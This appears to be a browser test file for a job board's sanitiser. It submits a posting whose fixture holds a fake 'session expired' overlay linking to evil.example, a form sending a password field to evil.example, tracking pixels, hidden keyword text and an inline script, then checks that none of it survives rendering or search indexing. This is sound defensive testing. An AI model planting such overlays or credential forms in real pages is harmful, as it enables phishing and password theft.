import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer } from '../helpers/test-server.ts';
import { apiCall, postListing, recruiterToken } from './support/api.ts';
import { launchBrowser, type TestBrowser } from './support/browser.ts';

/** A posting written to deceive: an overlay, borrowed classes and ids, hidden text, tracking images. */
const HOSTILE = [
  'We build **payment rails** in Go.',
  '',
  '<div style="position:fixed;inset:0;z-index:9999;background:white" class="app-shell" id="main">',
  '  Your session expired. <a href="https://evil.example/login" name="login">Log in again</a>',
  '</div>',
  '',
  'Also <span style="display: none">Zanzibarian Kubernetes Terraform</span> fine print.',
  '<p hidden>Quokkaflux required</p>',
  '<p aria-hidden="true">Wombatstack required</p>',
  '<img src="https://tracker.example/pixel.gif" alt="Numbatscript expert">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<script>window.pwned = true</script>',
  '',
  'And a picture: ![Bilbyql](https://tracker.example/pixel2.gif)',
].join('\n');

describe('a hostile posting', () => {
  let server: Awaited<ReturnType<typeof startServer>>;
  let browser: TestBrowser;
  let id: string;

  beforeAll(async () => {
    server = await startServer({ seedDemo: false });
    browser = await launchBrowser();
    const token = await recruiterToken(server.url, 'Hostile Postings Ltd');
    id = await postListing(server.url, token, {
      title: 'Go engineer, payments',
      description: HOSTILE,
      required: ['Go'],
    });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('renders only allow-listed markup: no styles, classes, ids, names, images, forms or scripts', async () => {
    const page = await browser.newPage();
    await page.goto(`${server.url}/jobs/${id}`);
    await page.getByRole('heading', { level: 1, name: 'Go engineer, payments' }).waitFor();
    const description = page.locator('.description');
    expect(await description.locator('strong').textContent()).toBe('payment rails');
    const markup = await description.evaluate((element) => ({
      attributes: Array.from(element.querySelectorAll('*')).flatMap((node) =>
        Array.from(node.attributes).map((attribute) => attribute.name),
      ),
      tags: Array.from(element.querySelectorAll('*')).map((node) => node.tagName.toLowerCase()),
      text: element.textContent ?? '',
      pwned: (window as unknown as { pwned?: boolean }).pwned ?? false,
    }));
    expect(markup.attributes.filter((name) => ['style', 'class', 'id', 'name'].includes(name))).toEqual([]);
    for (const tag of ['img', 'form', 'input', 'script', 'div']) expect(markup.tags).not.toContain(tag);
    expect(markup.pwned).toBe(false);
    // The overlay's words are plain text in the flow of the posting; the hidden text is gone.
    expect(markup.text).toContain('Log in again');
    for (const word of ['Zanzibarian', 'Quokkaflux', 'Wombatstack', 'Numbatscript', 'Bilbyql']) {
      expect(markup.text).not.toContain(word);
    }
    // Links leave the board without a referrer or an opener.
    expect(await description.getByRole('link', { name: 'Log in again' }).getAttribute('rel')).toBe(
      'nofollow noopener noreferrer ugc',
    );
    // The page's own header is still on top, where a click lands.
    const box = await page.locator('header').first().boundingBox();
    expect(box).not.toBeNull();
    const onTop = await page.evaluate(
      ([x, y]) => document.elementFromPoint(x as number, y as number)?.closest('header') !== null,
      [box!.x + box!.width / 2, box!.y + box!.height / 2],
    );
    expect(onTop).toBe(true);
    await page.close();
  });

  it('indexes only the text a candidate sees', async () => {
    const search = (q: string) =>
      apiCall<{ items: { listing: { id: string } }[] }>(
        server.url,
        'GET',
        `/api/listings/search?q=${encodeURIComponent(q)}`,
      );
    await expect
      .poll(async () => (await search('payment rails')).items.map((item) => item.listing.id))
      .toContain(id);
    for (const word of ['Zanzibarian', 'Quokkaflux', 'Wombatstack', 'Numbatscript', 'Bilbyql', 'pwned']) {
      expect(
        (await search(word)).items.map((item) => item.listing.id),
        word,
      ).not.toContain(id);
    }
  });
});
